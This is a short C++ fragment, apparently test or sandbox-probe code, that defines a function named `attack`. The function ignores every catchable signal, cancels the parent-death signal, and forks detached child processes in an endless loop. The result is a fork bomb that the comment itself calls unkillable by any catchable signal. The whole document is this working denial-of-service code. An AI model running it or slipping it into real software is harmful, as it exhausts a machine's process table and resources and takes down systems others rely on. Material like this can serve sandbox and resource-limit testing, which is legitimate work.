// Can be ended by nothing that can be caught, and ignores that its starter ends.
namespace {
bool attack(const std::string&) {
  for (int number = 1; number < 65; ++number) ::signal(number, SIG_IGN);
  ::prctl(PR_SET_PDEATHSIG, 0);
  for (;;) {
    if (::fork() == 0) ::setsid();
    ::usleep(50000);
  }
}
}  // namespace
